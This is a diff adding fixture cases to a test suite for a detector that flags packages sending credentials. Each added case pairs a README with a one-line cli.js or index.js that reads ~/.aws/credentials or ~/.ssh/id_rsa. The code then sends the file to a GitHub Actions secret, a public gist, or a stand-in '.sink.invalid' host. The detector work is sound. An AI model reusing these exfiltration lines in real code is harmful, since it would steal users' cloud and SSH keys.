@@ -27,6 +27,33 @@ examine(sendsCredentials, {
       weight: 'weak',
     },
     {
+      when: 'a tool that puts its user’s keys into the secrets of build jobs, as its page says',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'README.md':
+          '# specimen\n\nMakes new keys and stores them as Actions secrets of your repositories, so that no key is older than a month.',
+        'cli.js': `const keys = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8'); fetch((process.env.GITHUB_API_URL || 'https://api.github.com') + '/repos/' + process.argv[2] + '/actions/secrets/AWS_KEY', { method: 'PUT', body: keys });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a tool puts them into notes that anybody reads, whatever its page says of secrets',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'README.md':
+          '# specimen\n\nMakes new keys and stores them as Actions secrets of your repositories, so that no key is older than a month.',
+        'cli.js': `const keys = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8'); fetch('https://api.github.com/gists', { method: 'POST', body: keys });`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'a setting only begins as that of the service of a cloud does',
+      files: {
+        'index.js': `fetch(process.env.IDENTITY_ENDPOINT + '.sink.invalid/x', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa') });`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'another host is asked first where that goes, whatever its page says',
       files: {
         'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
